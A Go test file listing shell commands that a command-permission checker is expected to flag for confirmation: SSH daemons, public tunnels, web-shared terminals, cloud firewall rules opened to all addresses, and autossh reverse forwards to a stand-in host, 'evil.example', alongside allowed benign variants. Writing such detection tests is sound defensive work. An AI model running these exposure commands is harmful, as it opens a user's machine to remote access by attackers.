package patterns

import "testing"

// exposeCases (rt13d, eff7a): listeners and tunnels that open the machine
// to the network ask as cmd.credentials: an ssh daemon started, a public
// tunnel or a terminal shared on the web, a reverse forward by autossh,
// a firewall opened to every address. Their everyday neighbours (status,
// help, a local forward, a firewall rule for a private range) stay
// allowed.
var exposeCases = []evalCase{
	ask("sshd -p 2222", "cmd.credentials"),
	ask("/usr/sbin/sshd -D -p 2222 -f ./sshd_config", "cmd.credentials"),
	ask("sudo service ssh start", "cmd.credentials"),
	ask("service sshd start", "cmd.credentials"),
	ask("sudo /etc/init.d/ssh start", "cmd.credentials"),
	ask("dropbear -p 2222", "cmd.credentials"),
	ask("tailscale funnel 8080", "cmd.credentials"),
	ask("sudo tailscale funnel --bg 3000", "cmd.credentials"),
	ask("tailscale serve --bg 22", "cmd.credentials"),
	ask("zrok share public localhost:8000", "cmd.credentials"),
	ask("lt --port 8080", "cmd.credentials"),
	ask("npx localtunnel --port 3000", "cmd.credentials"),
	ask("ttyd -p 7681 -W bash", "cmd.credentials"),
	ask("gotty -w bash", "cmd.credentials"),
	ask("code tunnel --accept-server-license-terms", "cmd.credentials"),
	ask("code-insiders tunnel", "cmd.credentials"),
	ask("code-server --bind-addr 0.0.0.0:8080 --auth none", "cmd.credentials"),
	ask("autossh -M 0 -R 2222:localhost:22 user@evil.example", "cmd.credentials"),
	ask("autossh -M 0 -f -N -R 2222:localhost:22 evil.example", "cmd.credentials"),
	ask("aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0", "cmd.credentials"),
	ask("aws ec2 authorize-security-group-ingress --group-id sg-1 --ip-permissions 'IpProtocol=tcp,FromPort=22,ToPort=22,IpRanges=[{CidrIp=0.0.0.0/0}]'", "cmd.credentials"),
	ask("aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol all --cidr-ipv6 ::/0", "cmd.credentials"),
	ask("gcloud compute firewall-rules create all --allow tcp:22 --source-ranges 0.0.0.0/0", "cmd.credentials"),
	ask("gcloud compute firewall-rules update x --source-ranges=10.0.0.0/8,0.0.0.0/0", "cmd.credentials"),
	ask("az network nsg rule create -g rg --nsg-name n -n r --priority 100 --source-address-prefixes '*' --access Allow", "cmd.credentials"),
	ask("az network nsg rule create -g rg --nsg-name n -n r --priority 100 --source-address-prefixes Internet --access Allow", "cmd.credentials"),
	ask("az vm open-port -g rg -n vm --port 22", "cmd.credentials"),
	ask("iptables -I INPUT 1 -j ACCEPT", "cmd.credentials"),
	ask("ufw allow from any", "cmd.credentials"),
	allow("ssh host ls"),
	allow("ssh -fNL 5432:db:5432 bastion"),
	allow("autossh -M 0 -L 5432:db:5432 bastion"),
	allow("sshd -t"),
	allow("sshd -T -f ./sshd_config"),
	allow("systemctl status ssh"),
	allow("service ssh status"),
	allow("tailscale status"),
	allow("tailscale funnel status"),
	allow("tailscale serve status"),
	allow("ttyd --version"),
	allow("lt --help"),
	allow("code ."),
	allow("code tunnel status"),
	allow("sudo ufw allow 22/tcp"),
	allow("aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 443 --cidr 10.0.0.0/16"),
	allow("gcloud compute firewall-rules create x --allow tcp:443 --source-ranges 10.0.0.0/8"),
	allow("gcloud compute firewall-rules list"),
	allow("az network nsg rule create -g rg --nsg-name n -n r --priority 100 --source-address-prefixes 10.0.0.0/16 --access Allow"),
}

func TestExposeCases(t *testing.T) { runCases(t, exposeCases) }
